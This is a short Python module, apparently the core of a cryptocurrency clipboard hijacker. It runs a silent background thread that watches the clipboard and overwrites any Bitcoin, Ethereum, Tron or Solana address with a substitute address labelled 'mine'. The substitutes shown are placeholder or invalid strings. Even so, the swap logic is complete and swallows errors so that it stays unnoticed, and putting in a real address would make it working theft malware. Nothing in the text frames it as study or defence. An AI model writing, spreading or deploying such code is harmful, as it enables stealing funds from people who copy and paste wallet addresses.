import re
import threading
import time

import pyperclip

_SWAP = [
    (re.compile(r"^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}$"), "bc1qFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEinvalid"),
    (re.compile(r"^0x[a-fA-F0-9]{40}$"), "0x0000000000000000000000000000000000000000"),
    (re.compile(r"^T[A-Za-z1-9]{33}$"), "TFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEinvalid"),
    (re.compile(r"^[1-9A-HJ-NP-Za-km-z]{43,44}$"), "SoLFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEinvalid"),
]


def _loop():
    while True:
        try:
            text = pyperclip.paste().strip()
            for rx, mine in _SWAP:
                if rx.match(text) and text != mine:
                    pyperclip.copy(mine)
                    break
        except Exception:
            pass
        time.sleep(0.5)


def start():
    threading.Thread(target=_loop, daemon=True).start()
